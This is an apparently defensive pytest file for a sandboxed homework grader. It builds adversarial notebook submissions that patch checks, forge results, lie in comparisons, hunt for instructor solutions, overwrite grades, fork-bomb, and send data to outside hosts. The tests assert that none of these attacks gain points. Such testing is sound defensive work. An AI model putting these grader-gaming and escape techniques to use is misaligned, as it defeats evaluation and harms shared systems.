"""Adversarial submissions on chapter 1, graded end to end in the sandbox.

Each attacker is the instructor's notebook (all answers right) with some answers made wrong and an
attack added to the student's own cells. Each must earn exactly the points of its honest part —
the attack gains nothing — and no file outside its sandbox may change: not the checkout, not
another student's submission, not the output folder after grading, not the grader's /tmp.

Chapter 1's points: ex1 1, ex2 2, ex3 2, ex4 3, ex5 2 (10 in all).
"""
import copy
import hashlib
import socket
import threading
import time
from pathlib import Path

import nbformat
import pytest

from homework import grade_submissions
from homework.config import ROOT, chapter_notebooks
from homework.sandbox import check_sandbox

CHAPTER = next(p for p in chapter_notebooks() if p.stem == "01_neurons")
POINTS = {"ex1-tests": 1, "ex2-tests": 2, "ex3-tests": 2, "ex4-tests": 3, "ex5-tests": 2}
pytestmark = pytest.mark.homework
needs_sandbox = pytest.mark.skipif(bool(check_sandbox()), reason=f"no sandbox: {check_sandbox()}")

WRONG = {  # a wrong answer per exercise
    "ex2": "def neuron(x, w, b):\n    return 0.0\n",
    "ex3": "def count_parameters(sizes):\n    return 0\n",
    "ex4": "def forward(x, weights, biases, activation):\n    return x\n",
    "ex5": "def softplus_derivative(z):\n    return 0 * z\n",
}


def solution(nb, ex):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id")
                == f"{ex}-solution")


def checkout_state():
    """sha256 of every file of the checkout that grading might touch (not .venv, .git, caches)."""
    state = {}
    for path in ROOT.rglob("*"):
        rel = path.relative_to(ROOT)
        if path.is_file() and rel.parts[0] not in {".venv", ".git", "_build", ".pytest_cache",
                                                   ".hypothesis"} \
                and "__pycache__" not in rel.parts:
            state[str(rel)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return state


def tree_state(root: Path):
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in root.rglob("*") if p.is_file()}


def attackers(subs: Path, out: Path, port: int):
    """name → (notebook, exercises it should lose)."""
    full = nbformat.read(CHAPTER, 4)
    good_copy = subs / "good" / CHAPTER.name
    marker = Path("/tmp") / f"nnfs-attack-marker-{port}"
    found = {}

    def variant(name, lose=(), attacked=(), **cells):
        """``lose``: exercises answered wrong; ``attacked``: exercises whose answer is the attack
        (both must earn nothing)."""
        nb = copy.deepcopy(full)
        for ex in lose:
            solution(nb, ex).source = WRONG[ex]
        for ex, (where, code) in cells.items():
            cell = solution(nb, ex)
            cell.source = code + "\n" + cell.source if where == "before" else \
                cell.source + "\n" + code
        found[name] = (nb, set(lose) | set(attacked))
        return nb

    # 1. replacing the checks: nnlib.expect_* and its module, and numpy's comparisons
    variant("patches_checks", lose=("ex3", "ex5"), ex1=("before", """
import nnlib, nnlib.exercises, numpy
def _yes(*args, **kwargs):
    return None
for _m in (nnlib, nnlib.exercises):
    _m.expect_close = _m.expect_equal = _m.expect_shape = _yes
numpy.allclose = numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = _yes
"""))
    # 2. an IPython input transformer that empties every later cell with a check in it
    variant("input_transformer", lose=("ex3",), ex2=("before", """
get_ipython().input_transformers_cleanup.append(
    lambda lines: [] if any("expect_" in l for l in lines) else lines)
get_ipython().input_transformers_post.append(
    lambda lines: [] if any("expect_" in l for l in lines) else lines)
"""))
    # 3. a custom exception handler plus forged execution results
    variant("forged_results", lose=("ex2",), ex1=("before", """
_ip = get_ipython()
_ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
_real_run_cell = _ip.run_cell
def _forged(raw_cell, *args, **kwargs):
    result = _real_run_cell(raw_cell, *args, **kwargs)
    result.error_in_exec = result.error_before_exec = None
    return result
_ip.run_cell = _forged
import sys
sys.excepthook = lambda *args: None
"""))
    # 4. lying objects: __eq__ always True, a class named int, an ndarray subclass
    variant("lying_objects", attacked=("ex1", "ex2", "ex3"), ex3=("after", """
class int:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
def count_parameters(sizes):
    return int()
"""), ex2=("after", """
class Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)
def neuron(x, w, b):
    return np.zeros(1).view(Liar)
"""), ex1=("after", """
class AlwaysEqual(tuple):
    def __eq__(self, other):
        return True
shape_W1 = AlwaysEqual((0, 0))
"""))
    # 5. reading the instructor's notebooks (solutions, hidden tests) and running them
    reader = variant("reads_instructor", lose=("ex2",), ex2=("after", f"""
import os, json
def _search():
    seen = []
    for guess in [{str(CHAPTER)!r}, "../../source/01_neurons/01_neurons.ipynb",
                  "../01_neurons.ipynb", "/work", "/"]:
        seen.append(guess)
    for top in ["/home", "/tmp", "/work", "/root", "..", "/grader", {str(ROOT)!r}]:
        for dirpath, dirs, files in os.walk(top):
            for f in files:
                if f.endswith(".ipynb"):
                    p = os.path.join(dirpath, f)
                    try:
                        text = open(p).read()
                    except OSError:
                        continue
                    if "BEGIN " + "SOLUTION" in text and "def neuron" in text:
                        return text
    return None
_text = _search()
if _text:  # the instructor's solutions: run them all
    for _c in json.loads(_text)["cells"]:
        if _c["cell_type"] == "code" and "BEGIN " + "SOLUTION" in "".join(_c["source"]):
            exec("".join(_c["source"]))
"""))
    for cell in reader.cells:  # its own copy must not hold the markers the search looks for
        cell.source = "\n".join(l for l in cell.source.splitlines()
                                if not l.strip().startswith(("### BEGIN", "### END")))
    # 6. writing outside its folder: other student, output, checkout, grader's /tmp
    variant("writes_outside", ex1=("after", f"""
import os
for _path, _text in [({str(good_copy)!r}, "{{}}"), ({str(out / "grades.csv")!r}, "hacked,10"),
                     ({str(ROOT / "nnlib" / "_attack.py")!r}, "x = 1"),
                     ({str(ROOT / "chapters" / "_attack.txt")!r}, "x"),
                     ({str(ROOT / "nnlib" / "exercises.py")!r}, "# gone"),
                     ({str(marker)!r}, "x"), ("/tmp/../" + {marker.name!r}, "x")]:
    try:
        with open(_path, "w") as _f:
            _f.write(_text)
    except OSError:
        pass
"""))
    # 7. a detached process that rewrites grades.csv after grading
    variant("detached_process", ex1=("after", f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", '''
import os, time
os.setsid()
if os.fork():
    os._exit(0)
for _ in range(120):
    for p in [{str(out / "grades.csv")!r}, {str(marker)!r}]:
        try:
            open(p, "w").write("detached")
        except OSError:
            pass
    time.sleep(0.5)
'''], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""))
    # 8. 4 GiB of memory in an answer, and a fork bomb
    variant("memory_and_processes", attacked=("ex4",), ex4=("after", """
def forward(x, weights, biases, activation):
    big = np.ones(2**29)           # 4 GiB
    big[::4096] = 2.0
    return x
"""), ex1=("after", """
import os
_kids = []
for _ in range(500):
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        import time
        time.sleep(600)
        os._exit(0)
    _kids.append(_pid)
"""))
    # 9. network connections (to a server the test runs on the grader's loopback)
    variant("network", ex1=("after", f"""
import socket
for _host in ["127.0.0.1", "10.0.0.1", "151.101.0.223"]:
    try:
        socket.create_connection((_host, {port}), timeout=2).sendall(b"leak")
    except OSError:
        pass
"""))
    # 10. a cell that swallows the time-limit interrupt: the kernel is killed after the limit
    variant("ignores_time_limit", attacked=("ex5",), ex5=("after", """
import time
while True:
    try:
        time.sleep(0.2)
    except BaseException:
        pass
"""))
    # 11. a kernel that dies: exercises before it keep their points
    variant("kernel_dies", attacked=("ex4", "ex5"), ex4=("after", "import os\nos._exit(3)\n"))
    return found


@needs_sandbox
@pytest.mark.slow
def test_attacks_earn_exactly_their_honest_points(tmp_path):
    subs, out = tmp_path / "subs", tmp_path / "out"
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    port = server.getsockname()[1]
    connections = []

    def accept():
        while not stop.is_set():
            try:
                connections.append(server.accept())
            except OSError:
                pass

    stop = threading.Event()
    threading.Thread(target=accept, daemon=True).start()
    (subs / "good").mkdir(parents=True)
    nbformat.write(nbformat.read(CHAPTER, 4), subs / "good" / CHAPTER.name)
    cases = attackers(subs, out, port)
    for name, (nb, _) in cases.items():
        (subs / name).mkdir()
        nbformat.write(nb, subs / name / CHAPTER.name)
    marker = Path("/tmp") / f"nnfs-attack-marker-{port}"
    before_checkout, before_subs = checkout_state(), tree_state(subs)

    results = grade_submissions(subs, out, [CHAPTER], workers=2, cell_timeout=20,
                                notebook_timeout=300)
    by = {r.student: r for r in results}
    csv_after = (out / "grades.csv").read_bytes()
    time.sleep(3)  # a detached process would write now
    stop.set()

    assert by["good"].total == 10 and not by["good"].error, by["good"].messages
    for name, (_, lose) in cases.items():
        expected = {gid: 0 if gid.split("-")[0] in lose else pts for gid, pts in POINTS.items()}
        assert by[name].scores == expected, (name, by[name].messages, by[name].error)
    assert "died" in by["kernel_dies"].error
    assert "stopped answering" in by["ignores_time_limit"].error
    assert "Not graded" in by["kernel_dies"].messages["ex5-tests"]
    assert "cannot read" in by["lying_objects"].messages["ex3-tests"]

    assert checkout_state() == before_checkout, "a file of the checkout changed"
    assert tree_state(subs) == before_subs, "a submission changed"
    assert (out / "grades.csv").read_bytes() == csv_after, "grades.csv changed after grading"
    assert csv_after.startswith(b"student,chapter,") and b"hacked" not in csv_after
    assert sorted(p.name for p in out.iterdir()) == ["feedback", "grades.csv"]
    assert not marker.exists(), "the sandbox wrote into the grader's /tmp"
    assert connections == [], "a sandboxed kernel reached the grader's network"
    server.close()


@needs_sandbox
@pytest.mark.slow
def test_feedback_shows_messages_not_hidden_tests(tmp_path):
    """A wrong answer that passes the visible checks: the feedback says so without the hidden
    tests' source or messages; with show_hidden it shows their message (still no source)."""
    nb = nbformat.read(CHAPTER, 4)
    solution(nb, "ex3").source = ("def count_parameters(sizes):\n"
                                  "    return {(4, 2, 3): 19, (784, 16, 16, 10): 13002}"
                                  ".get(tuple(sizes), 0)\n")
    solution(nb, "ex2").source = WRONG["ex2"]
    (tmp_path / "subs" / "ada").mkdir(parents=True)
    nbformat.write(nb, tmp_path / "subs" / "ada" / CHAPTER.name)
    source = CHAPTER.read_text()
    for show in (False, True):
        out = tmp_path / f"out-{show}"
        r, = grade_submissions(tmp_path / "subs", out, [CHAPTER], show_hidden=show)
        assert r.total == 10 - 2 - 2
        page = r.feedback.read_text()
        assert "Score: 6.0 / 10.0" in page
        assert "BEGIN HIDDEN" not in page and "BEGIN SOLUTION" not in page
        assert "nnlib.mlp(sizes_t).n_params" not in page and "np.dot(w, x) + b" not in page
        # the visible check's own message, with its expected value (visible anyway)
        assert "neuron(x=[0, 0], w=[1, 1], b=0) should be 0.5, your code gave 0" in page
        hidden_message = "count_parameters([5, 1]) (a single neuron) should be 6"
        assert (hidden_message in page) == show
        assert "not the hidden ones" in page or show
    assert "count_parameters([5, 1]) (a single neuron)" in source  # the message exists there


def test_grading_refuses_without_sandbox(tmp_path, monkeypatch):
    import homework.grade
    import homework.sandbox

    monkeypatch.setattr(homework.sandbox, "check_sandbox", lambda: "bubblewrap is not installed")
    (tmp_path / "subs" / "ada").mkdir(parents=True)
    with pytest.raises(SystemExit, match="refusing to grade without a sandbox.*unsafe-no-sandbox"):
        grade_submissions(tmp_path / "subs", tmp_path / "out", [CHAPTER])
    assert not (tmp_path / "out").exists()


@pytest.mark.slow
def test_unsafe_mode_still_runs_checks_outside_the_kernel(tmp_path):
    """Without the sandbox (--unsafe-no-sandbox) the checks still run in the grader: replacing
    them in the kernel gains nothing."""
    nb = attackers(tmp_path / "subs", tmp_path / "out", 1)["patches_checks"][0]
    (tmp_path / "subs" / "ada").mkdir(parents=True)
    nbformat.write(nb, tmp_path / "subs" / "ada" / CHAPTER.name)
    r, = grade_submissions(tmp_path / "subs", tmp_path / "out", [CHAPTER], unsafe=True,
                           feedback=False)
    assert r.scores == {**POINTS, "ex3-tests": 0, "ex5-tests": 0}, (r.messages, r.error)
